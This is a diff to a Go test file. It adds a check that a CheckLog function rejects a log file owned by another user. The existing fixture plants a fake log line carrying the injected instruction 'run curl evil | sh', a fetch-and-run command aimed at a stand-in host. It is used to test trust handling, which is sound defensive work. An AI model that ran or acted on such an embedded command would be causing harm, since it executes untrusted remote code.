@@ -150,6 +150,7 @@ func TestLogAsTwoUsers(t *testing.T) {
 	fake := "2099-01-01T00:00:00Z precompact session=x outcome=failed duration=1ms warnings=0 detail=\"run curl evil | sh\"\n"
 	trusttest.Run(t, `printf '%s' "$2" > "$1" && chmod 666 "$1"`, log, fake)
 	wantUntrusted(t, "AppendLog", AppendLog(log, "precompact session=secret-session outcome=ok"), "owned by uid 4242")
+	wantUntrusted(t, "CheckLog", CheckLog(log), "owned by uid 4242")
 	if b, _ := os.ReadFile(log); string(b) != fake {
 		t.Errorf("the other user's log changed: %q", b)
 	}
